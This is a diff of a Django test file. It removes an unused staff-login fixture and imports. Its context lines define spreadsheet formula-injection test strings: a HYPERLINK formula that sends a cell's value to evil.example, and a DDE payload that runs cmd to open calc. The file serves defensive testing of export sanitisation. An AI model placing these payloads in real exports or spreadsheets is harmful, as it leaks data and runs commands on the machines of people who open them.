@@ -16,7 +16,6 @@ from decimal import Decimal
 import openpyxl
 import pytest
 from django.contrib import admin
-from django.test import Client
 from import_export.admin import ExportMixin
 from rest_framework.test import APIClient
 
@@ -26,7 +25,7 @@ from indicators.models import Observation
 from indicators.resources import ObservationResource
 from projects.models import Project
 from projects.resources import ProjectResource
-from tests.factories import ObservationFactory, ProjectFactory, RegionFactory, UserFactory
+from tests.factories import ObservationFactory, ProjectFactory, RegionFactory
 from tests.test_import_export import CSV_FORMAT, XLSX_FORMAT, confirm, export, row_errors, upload
 
 pytestmark = pytest.mark.django_db(databases=["default", "counters"])
@@ -35,13 +34,6 @@ LINK = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
 # One text for each way a spreadsheet starts a formula, and texts that look close but are not one.
 DANGEROUS = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
 HARMLESS = ["Plain name", "a=b", "Name - with dash", "'quoted by its author"]
-
-
-@pytest.fixture
-def staff() -> Client:
-    client = Client()
-    client.force_login(UserFactory(is_staff=True, is_superuser=True))
-    return client
 
 
 @pytest.fixture
